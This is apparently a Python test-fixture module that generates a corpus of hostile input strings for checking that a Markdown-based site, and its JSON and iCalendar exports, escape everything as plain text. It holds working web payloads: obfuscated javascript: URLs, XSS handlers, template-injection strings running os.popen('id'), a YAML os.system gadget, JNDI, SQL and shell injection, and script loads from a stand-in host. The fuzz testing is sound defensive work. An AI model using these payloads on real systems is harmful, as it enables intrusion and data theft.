"""A corpus of hostile strings, built from families of real attacks.

Each family crosses a few payloads with the places they are meant to work in
(a Markdown link, an attribute, the start of a line, an iCalendar line), so
the corpus covers the combinations a renderer could get wrong. Every string
here must come out of the site as plain text, and back out of the JSON and
iCalendar files as written.
"""

from __future__ import annotations

import itertools

from .dossiers import HOSTILE as CLASSIC

_JS = "javascript:alert(1)"


def _fullwidth(text: str) -> str:
    """Look-alikes that NFKC folds back to ASCII: '<' becomes U+FF1C, 'a' U+FF41."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


# `javascript:` in every spelling a browser or a Markdown parser might accept.
JAVASCRIPT_SPELLINGS = (
    _JS,
    "JaVaScRiPt:alert(1)",
    "JAVASCRIPT:alert(1)",
    " javascript:alert(1)",
    "\tjavascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "java\x00script:alert(1)",
    "java\x0bscript:alert(1)",
    "java&#9;script:alert(1)",
    "java&#x09;script:alert(1)",
    "java&Tab;script:alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106;avascript:alert(1)",
    "&#106&#97&#118&#97&#115&#99&#114&#105&#112&#116&#58alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "%6Aavascript:alert(1)",
    "javascript%3Aalert(1)",
    "java%0ascript:alert(1)",
    "\x01javascript:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u200bjavascript:alert(1)",
    _fullwidth("javascript") + ":alert(1)",
    "javascript://%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload=alert(1)>",
    "vbscript:msgbox(1)",
    "VBScript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:text/html,<script>alert(1)</script>",
    "data:image/svg+xml,<svg onload=alert(1)>",
    "DATA:text/html,<b>x</b>",
    "livescript:alert(1)",
    "feed:javascript:alert(1)",
    "file:///etc/passwd",
)

# The places a URL could be turned into a link.
URL_CONTEXTS = (
    "{}",
    "[klik]({})",
    '[klik]({} "titel")',
    "[klik](<{}>)",
    "![beeld]({})",
    "<{}>",
    "[klik][r]\n\n[r]: {}",
    '<a href="{}">klik</a>',
    "<img src=x onerror=\"location='{}'\">",
)

ELEMENTS = (
    "<img src=x {}=alert(1)>",
    "<svg {}=alert(1)>",
    "<svg/{}=alert(1)>",
    "<body {}=alert(1)>",
    '<div {}="alert(1)">x</div>',
    "<input autofocus {}=alert(1)>",
    "<details open {}=alert(1)>",
    "<video src=x {}=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>' {}=alert(1)>",
    "<marquee {}=alert(1)>",
    "<a href=# {}=alert(1)>x</a>",
    "<p {}=alert(1) markdown>x</p>",
)
HANDLERS = (
    "onerror",
    "onload",
    "onfocus",
    "onmouseover",
    "ontoggle",
    "onclick",
    "ONERROR",
    "onpointerenter",
    "onanimationstart",
)

SCRIPTS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://elders.example/x.js></script>",
    "<script/src=//elders.example/x.js>",
    "</script><script>alert(1)</script>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    "'\"><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<!--<script>-->alert(1)<!--</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><script>alert(1)</script></template>",
    "<object data=javascript:alert(1)>",
    "<embed src=javascript:alert(1)>",
    "<base href=https://elders.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=https://elders.example/x.css>",
    "<form action=javascript:alert(1)><button>x</button></form>",
    "<style>@import 'https://elders.example/x.css';</style>",
    '<div style="background:url(javascript:alert(1))">x</div>',
    "<svg><a xlink:href=javascript:alert(1)><text x=0 y=20>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>x</maction></math>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    _fullwidth("<script>") + "alert(1)" + _fullwidth("</script>"),
)

# Markdown and its extensions (tables, toc, md_in_html, attr_list in Material).
MARKDOWN = (
    '{: onclick="alert(1)" }',
    "{: onmouseover=alert(1) }",
    "tekst\n{: onclick=alert(1) }",
    "# kop {: #x onclick=alert(1) }",
    "## kop {: .md-button onclick=alert(1) }",
    "[klik](https://elders.example){: onclick=alert(1) }",
    "![x](https://elders.example/p.gif){: onerror=alert(1) }",
    '{#id .klasse style="display:none"}',
    '{: style="position:fixed;top:0;left:0;width:100%;height:100%" }',
    '<div markdown="1">**vet** <script>alert(1)</script></div>',
    "<span markdown>[x](javascript:alert(1))</span>",
    "![pixel](https://elders.example/pixel.gif)",
    "![pixel][p]\n\n[p]: https://elders.example/pixel.gif",
    "<https://elders.example/autolink>",
    "<mailto:iemand@elders.example>",
    "<iemand@elders.example>",
    "https://elders.example/kaal",
    "www.elders.example",
    '[ref]: https://elders.example "titel"',
    "[^1]\n\n[^1]: voetnoot",
    "*[HTML]: Hyper Text",
    "[TOC]",
    '--8<-- "/etc/passwd"',
    '!!! danger "let op"\n    inhoud',
    "???+ note\n    inhoud",
    "```html\n<script>alert(1)</script>\n```",
    "~~~\ncode\n~~~",
    "    ingesprongen code",
    "`<script>`",
    "``a ` b``",
    "***",
    "===",
    "kop\n===",
    "kop\n---",
    "| a | b |\n|---|---|\n| <script>x</script> | c |",
    "| eind van de cel |",
    "a | b | c",
    "\\| ontsnapt \\|",
    "<!-- commentaar -->",
    "<!-- open commentaar",
    "-->",
    "<!--> x",
    "<?php echo 1; ?>",
    "<!DOCTYPE html>",
    "<!ENTITY x SYSTEM 'file:///etc/passwd'>",
    "&x; &nbsp; &amp;amp; &#0; &#x110000; &#xD800;",
    "* lijst\n* lijst",
    "1. een\n2. twee",
    "> citaat\n> > genest",
    "\\",
    "einde met backslash\\",
    "\\\\ \\* \\_ \\[ \\]",
    "**niet gesloten",
    "_niet gesloten",
    "[niet gesloten",
    "](javascript:alert(1))",
    "<",
    ">",
    "&",
    '"',
    "'",
    "</div>",
    "</p></li></ul></td></tr></table>",
    "</article></main></body></html>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</figcaption></figure><script>alert(1)</script>",
)

TEMPLATES = (
    "{{ 7*7 }}",
    "{{ config }}",
    "{{ config.extra }}",
    "{{ page.title }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ lipsum.__globals__.os.popen('id').read() }}",
    "{% raw %}x{% endraw %}",
    "{% endraw %}",
    "{% for x in range(10**9) %}x{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{# commentaar #}",
    "{%- if true -%}ja{%- endif -%}",
    "{{",
    "}}",
    "{%",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "${jndi:ldap://elders.example/a}",
    "{{{drie}}}",
    "[[ dubbel ]]",
)

FRONT_MATTER = (
    "---\ntitle: overgenomen\n---",
    "---\ntemplate: main.html\n---",
    "---\nhide: [navigation, toc]\n---",
    "---",
    "...",
    "--- !!python/object/apply:os.system ['id']",
    "title: nep",
    "key: value",
    "- item",
    "&anker waarde",
    "*alias",
    "!!binary aGFsbG8=",
    "? sleutel\n: waarde",
    "%YAML 1.1",
    "<<: *basis",
)

# Characters that are legal in the YAML file yet may break a renderer.
CONTROL = (
    "nul\x00byte",
    "bel\x07",
    "backspace\x08x",
    "escape \x1b[31mrood\x1b[0m",
    "verticale\x0btab",
    "formfeed\x0cx",
    "delete\x7fx",
    "c1 \x85 next line",
    "c1 \x9b csi",
    "tab\there",
    "regel\r\nmet CRLF",
    "alleen\rCR",
    "regel\u2028scheider",
    "alinea\u2029scheider",
    "\ufeffBOM vooraan",
    "\ufffe noncharacter",
    "\U0010ffff laatste code point",
)

UNICODE = (
    "rechts\u202enaar links",
    "\u202egnp.exe",
    "isolaat \u2066links\u2069 \u2067rechts\u2069",
    "\u200f\u200e markeringen",
    "nul\u200bbreedte",
    "zero\u200cwidth\u200djoiner",
    "\u2060word joiner\u2060",
    "zachte\u00adafbreking",
    "combinerend: Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324",
    "emoji 🎉 en 家族 en עִברִית en العربية",
    "vlag 🇳🇱 en familie 👨‍👩‍👧‍👦",
    "astraal \U0001d54f \U0001d51e \U00010348 \U0001f0a1",
    _fullwidth("fullwidth <b>"),
    "ﬁ ligatuur en Å vs Å",
    "ΑΒΓ Greek and \u0410pple Cyrillic",
    "\u0000\u0001",
    "İstanbul ß ǅ",
    "\u0130\u0131",
    # Nothing a reader can see: zero-width, fillers, a blank Braille cell, marks alone.
    "\ufeff",
    "\u200b",
    "\u2060\u200d",
    "\u3164",
    "\u2800",
    "\u200b\u200b\u200b",
    "\u0301\u0302",
    # A contact that makes the review summary read as if a detail were private.
    "Jan Publiek (niet openbaar); niets te controleren.",
    # A right-to-left name with its isolate, as Arabic and Hebrew text may need.
    "\u2067\u0627\u0644\u0639\u0631\u0628\u064a\u0629\u2069 en Nederlands",
)

ICALENDAR = (
    "titel\r\nATTENDEE:mailto:aanvaller@elders.example",
    "titel\nATTENDEE;CN=x:mailto:aanvaller@elders.example",
    "titel\r\nEND:VEVENT\r\nBEGIN:VEVENT\r\nSUMMARY:nep",
    "titel\nEND:VCALENDAR",
    "titel\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nEND:VALARM",
    "titel\r\nURL:https://elders.example",
    "titel\r\n ATTACH:https://elders.example/x",
    "SUMMARY:dubbel",
    "a;b,c\\d:e",
    "\\n;\\,\\\\",
    'DESCRIPTION;ALTREP="https://elders.example":x',
    "x\r\n\tgevouwen",
    "X-WR-CALNAME:overgenomen",
)

JSON = (
    '"}]}',
    '", "admin": true, "x": "',
    '\\"',
    "\\u0000",
    "</script><script>alert(1)</script>",
    "\u2028\u2029 in JSON",
    '{"signal": "alert(1)"}',
    '{"expr": "alert(1)"}',
    "datum.name",
    "datum['x'] || alert(1)",
    "event.view.alert(1)",
    "(0, eval)('alert(1)')",
    "constructor.constructor('alert(1)')()",
)

OTHER = (
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%2e%2e%2f",
    "/absoluut/pad",
    "C:\\Windows\\System32",
    "\\\\server\\share",
    '=HYPERLINK("https://elders.example","klik")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "'; DROP TABLE dossiers; --",
    '" OR 1=1 --',
    "$(id)",
    "`id`",
    "|| id",
    "%s%s%s%n",
    "{0}{1}",
    "%(name)s",
    "NaN",
    "Infinity",
    "null",
    "true",
    "0x41",
    "1e309",
)

LONG = (
    "a" * 10_000,
    "<" * 5_000,
    "&" * 5_000,
    "[" * 2_000 + "x" + "]" * 2_000,
    "*" * 3_000,
    "_" * 3_000,
    "`" * 3_000,
    "|" * 3_000,
    "{" * 3_000,
    "é" * 10_000,
    "🎉" * 2_500,
    "woord " * 1_700,
    "https://elders.example/" + "a" * 9_000,
    ("<b>" * 1_000) + ("</b>" * 1_000),
    "x\u0301" * 4_000,
)


def _corpus() -> tuple[str, ...]:
    strings: list[str] = []
    strings += [
        context.format(url)
        for context, url in itertools.product(URL_CONTEXTS, JAVASCRIPT_SPELLINGS)
    ]
    strings += [
        element.format(handler) for element, handler in itertools.product(ELEMENTS, HANDLERS)
    ]
    families = (
        SCRIPTS,
        MARKDOWN,
        TEMPLATES,
        FRONT_MATTER,
        CONTROL,
        UNICODE,
        ICALENDAR,
        JSON,
        OTHER,
    )
    for family in families:
        strings += family
    strings += LONG
    strings += CLASSIC
    # A few in positions that matter: a heading, a list item, a table cell, after text.
    for payload in (*SCRIPTS[:6], *MARKDOWN[:8], *TEMPLATES[:4]):
        strings += [f"# {payload}", f"tekst ervoor {payload}", f"| {payload} |"]
    unique = list(dict.fromkeys(s for s in strings if s.strip()))
    return tuple(unique)


CORPUS = _corpus()
